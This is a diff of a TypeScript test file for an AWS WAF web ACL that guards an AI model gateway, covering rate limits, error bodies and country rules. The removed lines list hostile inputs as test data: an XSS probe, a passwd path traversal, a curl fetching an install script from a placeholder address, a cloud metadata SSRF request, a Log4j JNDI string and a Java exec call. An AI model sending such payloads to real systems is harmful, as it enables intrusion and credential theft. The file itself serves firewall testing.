@@ -1,72 +1,28 @@
-import { Template } from 'aws-cdk-lib/assertions';
 import { describe, expect, it } from 'vitest';
-import * as z from 'zod';
 import { WebAcl } from '../../../lib/data-plane/web-acl.ts';
-import type { WebAclProps } from '../../../lib/data-plane/web-acl.ts';
-import { emptyStack, onlyResource } from '../synthesize.ts';
-
-const override = z.object({ Name: z.string(), ActionToUse: z.record(z.string(), z.unknown()) });
-const ruleSchema = z.looseObject({
-  Name: z.string(),
-  Priority: z.number(),
-  OverrideAction: z.record(z.string(), z.unknown()).optional(),
-  Statement: z.looseObject({
-    ManagedRuleGroupStatement: z
-      .looseObject({ VendorName: z.literal('AWS'), RuleActionOverrides: z.array(override).default([]) })
-      .optional(),
-  }),
-});
-
-function synthesizeAcl(props: WebAclProps = {}): Record<string, unknown> {
-  const stack = emptyStack('us-east-1');
-  new WebAcl(stack, 'WebAcl', props);
-  return onlyResource(Template.fromStack(stack), 'AWS::WAFv2::WebACL').Properties;
-}
-
-function rulesOf(acl: Record<string, unknown>) {
-  return z.array(ruleSchema).parse(acl['Rules']);
-}
-
-/** Bodies that reached models through other gateways only after the rule that blocked them was counted. */
-const realPrompts = [
-  ['a prompt of 200 KB', 'AWSManagedRulesCommonRuleSet', 'SizeRestrictions_BODY'],
-  ['<script>alert(1)</script>', 'AWSManagedRulesCommonRuleSet', 'CrossSiteScripting_BODY'],
-  ['<meta charset="utf-8">', 'AWSManagedRulesCommonRuleSet', 'CrossSiteScripting_BODY'],
-  ['cat ../../etc/passwd', 'AWSManagedRulesCommonRuleSet', 'GenericLFI_BODY'],
-  ['curl http://203.0.113.7/install.sh', 'AWSManagedRulesCommonRuleSet', 'GenericRFI_BODY'],
-  ['curl http://169.254.169.254/latest/meta-data', 'AWSManagedRulesCommonRuleSet', 'EC2MetaDataSSRF_BODY'],
-  ['${jndi:ldap://x/a}', 'AWSManagedRulesKnownBadInputsRuleSet', 'Log4JRCE_BODY'],
-  [
-    '(java.lang.Runtime).getRuntime().exec("id")',
-    'AWSManagedRulesKnownBadInputsRuleSet',
-    'JavaDeserializationRCE_BODY',
-  ],
-  ['{"then":"$1:__proto__:then"}', 'AWSManagedRulesKnownBadInputsRuleSet', 'ReactJSRCE_BODY'],
-] as const;
+import { proxyAcl, webRequest } from '../edge/synthesized-acl.ts';
+import { emptyStack } from '../synthesize.ts';
+import { evaluateWebAcl } from '../web-acl-evaluator.ts';
 
 describe('WebAcl', () => {
-  it.each(realPrompts)('lets the prompt %j through: %s counts %s', (_prompt, group, rule) => {
-    const rules = rulesOf(synthesizeAcl());
+  it('counts nine rules of the managed groups and leaves the others their action', () => {
+    const acl = proxyAcl();
 
-    const overrides = rules.find(({ Name }) => Name === group)?.Statement.ManagedRuleGroupStatement
-      ?.RuleActionOverrides;
+    const overridden = acl.Rules.flatMap(
+      ({ Statement }) => Statement.ManagedRuleGroupStatement?.RuleActionOverrides ?? [],
+    );
 
-    expect(overrides).toContainEqual({ Name: rule, ActionToUse: { Count: {} } });
-  });
-
-  it('counts rules that read bodies and no other rule of a blocking group', () => {
-    const rules = rulesOf(synthesizeAcl());
-
-    const overridden = rules.flatMap(({ Statement }) => Statement.ManagedRuleGroupStatement?.RuleActionOverrides ?? []);
-
-    expect(overridden).toHaveLength(8);
-    expect(overridden.filter(({ Name }) => !Name.endsWith('_BODY'))).toEqual([]);
+    expect(overridden).toHaveLength(9);
+    expect(overridden.filter(({ ActionToUse }) => !('Count' in ActionToUse))).toEqual([]);
+    expect(overridden.filter(({ Name }) => !Name.endsWith('_BODY')).map(({ Name }) => Name)).toEqual([
+      'NoUserAgent_HEADER',
+    ]);
   });
 
   it('checks reputation first, then floods, then attack patterns, and counts anonymous addresses', () => {
-    const rules = rulesOf(synthesizeAcl());
+    const acl = proxyAcl();
 
-    expect(rules.map(({ Priority, Name, OverrideAction }) => [Priority, Name, OverrideAction])).toEqual([
+    expect(acl.Rules.map(({ Priority, Name, OverrideAction }) => [Priority, Name, OverrideAction])).toEqual([
       [0, 'AWSManagedRulesAmazonIpReputationList', { None: {} }],
       [1, 'AWSManagedRulesAnonymousIpList', { Count: {} }],
       [2, 'RatePerAddress', undefined],
@@ -76,58 +32,85 @@ describe('WebAcl', () => {
     ]);
   });
 
-  it('limits addresses everywhere, and authorization values where models are called', () => {
-    const acl = synthesizeAcl({ rateLimitPerAddress: 100, rateLimitPerAuthorization: 50 });
+  it.each([
+    ['as many requests as are allowed', { rate: 50 }, 'allow', undefined],
+    ['more of one authorization value', { rate: 51 }, 'block', 'RatePerAuthorization'],
+    ['more of it where no model is called', { rate: 51, path: '/healthz' }, 'allow', undefined],
+    [
+      'more without that header',
+      { rate: 51, headers: { 'user-agent': 'test', 'x-api-key': 'gh' } },
+      'allow',
+      undefined,
+    ],
+    ['more from one address', { rate: 101, path: '/healthz' }, 'block', 'RatePerAddress'],
+  ] as const)(
+    'limits addresses everywhere and authorization where models are called: %s',
+    (_case, changes, action, rule) => {
+      const acl = proxyAcl({ rateLimitPerAddress: 100, rateLimitPerAuthorization: 50 });
 
-    const statements = rulesOf(acl).map(({ Statement }) => Statement['RateBasedStatement']);
-    expect(statements.filter(Boolean)).toEqual([
-      { AggregateKeyType: 'IP', EvaluationWindowSec: 300, Limit: 100 },
-      {
-        AggregateKeyType: 'CUSTOM_KEYS',
-        CustomKeys: [{ Header: { Name: 'authorization', TextTransformations: [{ Priority: 0, Type: 'NONE' }] } }],
-        EvaluationWindowSec: 300,
-        Limit: 50,
-        ScopeDownStatement: {
-          RegexMatchStatement: {
-            FieldToMatch: { UriPath: {} },
-            RegexString: '^/v1(beta)?/',
-            TextTransformations: [{ Priority: 0, Type: 'NONE' }],
-          },
-        },
-      },
-    ]);
-  });
+      const verdict = evaluateWebAcl(acl, webRequest(changes));
 
-  it('answers a flood with 429, retry-after and an OpenAI error', () => {
-    const acl = synthesizeAcl();
+      expect([verdict.action, verdict.rule]).toEqual([action, rule]);
+    },
+  );
 
-    const bodies = z
-      .record(z.string(), z.object({ ContentType: z.literal('APPLICATION_JSON'), Content: z.string() }))
-      .parse(acl['CustomResponseBodies']);
-    expect(JSON.parse(bodies['flood']?.Content ?? '')).toEqual({
+  it.each([10_001, 20_001])('answers a flood with 429 in one body for all SDKs', (rate) => {
+    const acl = proxyAcl();
+
+    const { response } = evaluateWebAcl(acl, webRequest({ rate }));
+
+    expect(response).toMatchObject({
+      status: 429,
+      headers: { 'retry-after': '30', 'x-should-retry': 'true', 'x-gatehouse-error-code': 'edge_rate_limited' },
+    });
+    expect(JSON.parse(response?.body ?? '')).toEqual({
+      type: 'error',
       error: {
-        message: expect.any(String),
         type: 'rate_limit_error',
+        message: expect.any(String),
         param: null,
         code: 'edge_rate_limited',
+        status: 'RESOURCE_EXHAUSTED',
+        owner: 'gateway',
       },
     });
-    const blocks = rulesOf(acl).filter(({ Name }) => Name.startsWith('Rate'));
-    expect(blocks.map((rule) => rule['Action'])).toEqual(
-      Array.from({ length: 2 }, () => ({
-        Block: {
-          CustomResponse: {
-            ResponseCode: 429,
-            CustomResponseBodyKey: 'flood',
-            ResponseHeaders: [{ Name: 'retry-after', Value: '60' }],
-          },
-        },
-      })),
-    );
+  });
+
+  it.each([
+    ['allow', { allow: ['CH', 'DE'] }, 'CH', 'allow'],
+    ['allow', { allow: ['CH', 'DE'] }, 'US', 'block'],
+    ['block', { block: ['KP'] }, 'KP', 'block'],
+    ['block', { block: ['KP'] }, 'CH', 'allow'],
+  ] as const)('decides countries by its list of those to %s: %j, %s', (_list, countries, country, action) => {
+    const acl = proxyAcl({ countries });
+
+    const verdict = evaluateWebAcl(acl, webRequest({ country }));
+
+    expect(verdict.action).toBe(action);
+    expect(acl.Rules.map(({ Name }) => Name).indexOf('Country')).toBe(0);
+  });
+
+  it('tells a caller from elsewhere so, in JSON, and not to come back', () => {
+    const acl = proxyAcl({ countries: { allow: ['CH'] } });
+
+    const { response } = evaluateWebAcl(acl, webRequest({ country: 'US' }));
+
+    expect(response).toMatchObject({ status: 403, headers: { 'x-should-retry': 'false' } });
+    expect(JSON.parse(response?.body ?? '')).toMatchObject({
+      type: 'error',
+      error: { type: 'permission_error', code: 'country_not_allowed', status: 'PERMISSION_DENIED' },
+    });
+  });
+
+  it('has no rule for countries, which is billed, unless it is asked for one', () => {
+    const acl = proxyAcl();
+
+    expect(acl.Rules).toHaveLength(6);
+    expect(JSON.stringify(acl)).not.toContain('ountr');
   });
 
   it('is for CloudFront and samples no request, since samples show headers', () => {
-    const acl = synthesizeAcl();
+    const acl = proxyAcl({ countries: { block: ['KP'] } });
 
     expect(acl).toMatchObject({ Scope: 'CLOUDFRONT', DefaultAction: { Allow: {} } });
     expect(JSON.stringify(acl)).not.toContain('"SampledRequestsEnabled":true');
@@ -136,8 +119,11 @@ describe('WebAcl', () => {
   it.each([
     [{ rateLimitPerAddress: 9 }, '`rateLimitPerAddress` must be an integer of at least 10, got: 9'],
     [{ rateLimitPerAuthorization: 10.5 }, '`rateLimitPerAuthorization` must be an integer of at least 10, got: 10.5'],
+    [{ countries: {} }, '`countries` must have either `allow` or `block`, got: {}'],
+    [{ countries: { allow: ['CH'], block: ['US'] } }, '`countries` must have either `allow` or `block`'],
+    [{ countries: { block: ['Kp'] } }, '`countries` must be a country code of ISO 3166 in capitals, such as CH'],
   ])('refuses %j', (props, message) => {
-    const build = () => synthesizeAcl(props);
+    const build = () => proxyAcl(props);
 
     expect(build).toThrow(message);
   });
